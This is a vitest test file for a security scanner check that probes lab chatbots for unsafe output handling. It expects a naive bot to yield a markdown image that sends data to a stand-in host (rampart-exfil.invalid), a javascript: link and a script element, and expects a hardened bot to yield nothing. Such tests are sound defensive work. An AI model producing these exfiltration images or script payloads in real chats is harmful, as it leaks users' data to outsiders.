import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as lab from "../../../lab/llm/servers.js";
import { findingsOf, HARDENED_AUTH, requestsOf, scanLlm } from "./_testkit.js";
import check from "./llm-output-handling.js";

describe("llm-output-handling", () => {
  const labs: lab.LlmLab[] = [];
  const start = async (p: Promise<lab.LlmLab>) => {
    const s = await p;
    labs.push(s);
    return s;
  };
  afterAll(() => Promise.all(labs.map((s) => s.close())));
  let naive: lab.LlmLab;
  let hardened: lab.LlmLab;
  beforeAll(async () => {
    [naive, hardened] = await Promise.all([start(lab.startNaiveBot()), start(lab.startHardenedBot())]);
  });
  it("flags a markdown exfiltration image (high), a javascript: link and a script element", async () => {
    const report = await scanLlm(naive.chatUrl, check, { llm: { tier: "standard" } });
    const found = findingsOf(report, check.meta.id);
    expect(found.length).toBe(3);
    const image = found.find((f) => f.title.includes("markdown image"))!;
    expect(image.severity).toBe("high");
    expect(image.evidence.excerpt).toMatch(/^!\[status\]\(https:\/\/rampart-exfil\.invalid\/pixel\.png\?d=[A-Z]+$/);
  });

  it("stays quiet on the hardened bot and within its request budget", async () => {
    const report = await scanLlm(hardened.chatUrl, check, { headers: HARDENED_AUTH });
    expect(findingsOf(report, check.meta.id)).toEqual([]);
    expect(requestsOf(report, check.meta.id)).toBeLessThanOrEqual(check.meta.maxRequests);
  });
});
